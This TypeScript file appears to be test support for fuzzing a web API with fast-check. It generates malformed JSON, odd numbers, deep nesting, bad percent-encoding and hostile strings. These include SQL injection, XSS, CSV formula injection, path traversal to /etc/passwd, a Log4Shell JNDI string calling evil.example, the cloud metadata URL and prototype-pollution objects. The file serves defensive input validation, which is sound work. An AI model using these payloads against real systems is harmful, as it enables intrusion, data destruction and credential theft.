import fc from "fast-check";

// Arbitraries (fast-check) for what a hostile or broken client sends: values of every wrong type,
// text with NUL, control characters and lone surrogates, huge numbers, deep nesting, duplicate keys,
// malformed JSON and malformed percent-encoding. Values are raw text (a JSON fragment, a query
// string) because JSON.stringify cannot write a duplicate key, 1e400 or an unescaped control character.

/** One character a careless or hostile client puts in a string. */
const hostileChar = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(..."abcxyz019 _-.@+%&=?/#") },
  { weight: 2, arbitrary: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)) },
  { weight: 1, arbitrary: fc.constantFrom("\u007f", "\u0085", "\u00a0", "\u200b", "\u2028", "\u2029", "\ufeff", "\ufffe", "\uffff") },
  { weight: 2, arbitrary: fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)) },
  { weight: 1, arbitrary: fc.constantFrom("é", "ß", "中", "😀", "\u0301", "\u202e") },
  { weight: 1, arbitrary: fc.constantFrom('"', "\\", "'", "<", ">", "{", "}", "[", "]", "$", "`") },
);

/** Strings nobody should have to store: NUL, escapes, surrogates, injection-shaped text. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.string({ unit: hostileChar, maxLength: 24 }) },
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      "\u0000",
      "a\u0000b",
      "Ada\u0000",
      "\u0000\u0000\u0000",
      "\ud800",
      "\udfff",
      "Ada\ud800",
      "\udc00\ud800",
      "\u001b[31mred",
      "\r\n\r\n",
      "\t",
      "   ",
      "",
      "%00",
      "%zz",
      "\\u0000",
      "null",
      "undefined",
      "NaN",
      "Infinity",
      "-0",
      "1e400",
      "true",
      "$ne",
      "__proto__",
      "constructor",
      "toString",
      "' OR 1=1 --",
      '\'; DROP TABLE "Lead"; --',
      "<script>alert(1)</script>",
      "=cmd|' /C calc'!A0",
      "-1+1+cmd|' /C calc'!A0",
      "../../../etc/passwd",
      "{{7*7}}",
      "${jndi:ldap://evil.example/a}",
      "http://169.254.169.254/latest/meta-data/",
      "javascript:alert(1)",
    ),
  },
  { weight: 1, arbitrary: longText(1_000, 10_000) },
);

/** A long string (sizes from `min` to `max` characters) built from a short repeated pattern. */
export function longText(min: number, max: number): fc.Arbitrary<string> {
  return fc
    .tuple(fc.string({ unit: hostileChar, minLength: 1, maxLength: 8 }), fc.integer({ min, max }))
    .map(([pattern, length]) => pattern.repeat(Math.ceil(length / pattern.length)).slice(0, length));
}

/** JSON numbers that overflow, underflow, lose precision or are negative zero. */
export const rawNumber: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "1e400",
    "-1e400",
    "1e-400",
    "-0",
    "-0.0",
    "0e0",
    "18446744073709551616",
    "18446744073709551615",
    "9223372036854775808",
    "-9223372036854775809",
    "9007199254740993",
    "2147483648",
    "1.7976931348623157e308",
    "5e-324",
    "123456789012345678901234567890.123456789",
    "1E+2",
    "0.1",
    "-1",
    "42",
  ),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => JSON.stringify(n)),
  fc.bigInt({ min: -(2n ** 200n), max: 2n ** 200n }).map(String),
);

/** `depth` levels of nested arrays, objects or both, as JSON text. */
export const deepNesting: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom("array", "object", "mixed"), fc.integer({ min: 200, max: 10_000 }))
  .map(([shape, depth]) => {
    if (shape === "array") return "[".repeat(depth) + "]".repeat(depth);
    if (shape === "object") return '{"a":'.repeat(depth) + "null" + "}".repeat(depth);
    return '[{"a":'.repeat(depth) + "1" + "}]".repeat(depth);
  });

/** Any JSON value of a type a field did not ask for, or a hostile string, as JSON text. */
export const hostileJsonValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 10, arbitrary: hostileText.map((text) => JSON.stringify(text)) },
  { weight: 4, arbitrary: rawNumber },
  { weight: 2, arbitrary: fc.constantFrom("true", "false", "null") },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      "{}",
      "[]",
      '{"x":1}',
      '{"$ne":""}',
      '{"$gt":0}',
      '{"toString":"x"}',
      '{"__proto__":{"polluted":true}}',
      '{"constructor":{"prototype":{"polluted":true}}}',
      '["Ada"]',
      '["Ada","Bob"]',
      "[null]",
      '{"0":"A","length":1}',
      '"\\ud800"',
      '"\\udfff\\ud800"',
      '"\\u0000"',
      '"a\\u0000b"',
    ),
  },
  { weight: 3, arbitrary: fc.json({ maxDepth: 3 }) },
  { weight: 1, arbitrary: deepNesting },
);

/** JSON object text from key/value pairs (raw value text), so a key may appear twice. */
export function rawJsonObject(entries: ReadonlyArray<readonly [string, string]>): string {
  return `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${value}`).join(",")}}`;
}

/** A key a client should not send: control characters, prototype names, or very long. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      "__proto__",
      "constructor",
      "prototype",
      "hasOwnProperty",
      "",
      " ",
      "\u0000",
      "a\u0000b",
      "\ud800",
      "fields",
      "sub_ids",
      "api_key",
      "$where",
    ),
  },
  { weight: 4, arbitrary: fc.string({ unit: hostileChar, minLength: 1, maxLength: 12 }) },
  { weight: 1, arbitrary: longText(300, 5_000) },
);

/** Text that is not valid JSON, or not a JSON object, though it may look like one. */
export const malformedJsonBody: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      "",
      " ",
      "{",
      "}",
      "{]",
      '{"offer_id":',
      '{"a":1,}',
      "{'a':1}",
      "{a:1}",
      '{"a":NaN}',
      '{"a":Infinity}',
      '{"a":undefined}',
      '{"a":1} {"b":2}',
      '{"a":"\\x41"}',
      '{"a":"\\u12"}',
      '{"a":"line\nbreak"}',
      '{"a":"nul\u0000raw"}',
      '/* comment */ {"a":1}',
      "\ufeff{}",
      "null",
      "[]",
      "[1,2,3]",
      '"a string"',
      "42",
      "true",
      "\u0000",
    ),
  },
  { weight: 1, arbitrary: deepNesting },
  { weight: 2, arbitrary: fc.json({ maxDepth: 2 }) },
  { weight: 2, arbitrary: fc.string({ unit: hostileChar, maxLength: 60 }) },
);

/** Malformed or surprising percent-encoding for a form body or query string value. */
export const rawPercentText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "%",
    "%2",
    "%zz",
    "%%",
    "%00",
    "a%00b",
    "%0a%0d",
    "%C0%80",
    "%ED%A0%80",
    "%ED%BF%BF",
    "%FF%FE",
    "%E2%82",
    "%F4%90%80%80",
    "%u0000",
    "%25%32%35",
    "+",
    "%2B%20+",
    "&",
    "=",
    "==",
    "a=b=c",
  ),
  fc
    .array(fc.constantFrom("%", "%0", "%00", "%1f", "%7f", "%80", "%ff", "%d8%00", "a", "+", "=", ";", "[", "]"), { minLength: 1, maxLength: 12 })
    .map((parts) => parts.join("")),
);

/**
 * Percent-encodes text the way a form does, keeping lone surrogates (encodeURIComponent throws on
 * them) as the three bytes a careless encoder writes.
 */
export function formEncode(text: string): string {
  let out = "";
  for (const char of text) {
    const code = char.codePointAt(0)!;
    if (code >= 0xd800 && code <= 0xdfff)
      out += `%${(0xe0 | (code >> 12)).toString(16)}%${(0x80 | ((code >> 6) & 0x3f)).toString(16)}%${(0x80 | (code & 0x3f)).toString(16)}`;
    else out += encodeURIComponent(char);
  }
  return out;
}

/** A form-body or query-string value: encoded hostile text or raw malformed percent-encoding. */
export const hostileFormValue: fc.Arbitrary<string> = fc.oneof({ weight: 3, arbitrary: hostileText.map(formEncode) }, { weight: 2, arbitrary: rawPercentText });

/** Content types that are wrong, missing, oddly written or contradict each other (undefined: no header). */
export const contentTypeFor = (correct: string): fc.Arbitrary<string | undefined> =>
  fc.oneof(
    { weight: 12, arbitrary: fc.constant(correct) },
    {
      weight: 4,
      arbitrary: fc.constantFrom(
        undefined,
        "",
        `${correct}; charset=utf-8`,
        `${correct.toUpperCase()}`,
        ` ${correct} `,
        `${correct}; charset=utf-16`,
        `${correct};;;`,
        "application/json",
        "application/x-www-form-urlencoded",
        "application/json, application/x-www-form-urlencoded",
        "text/plain",
        "text/html",
        "application/xml",
        "multipart/form-data",
        "multipart/form-data; boundary=----x",
        "application/octet-stream",
        "application/vnd.api+json",
        "*/*",
        "json",
        'application/json; boundary=""',
      ),
    },
  );
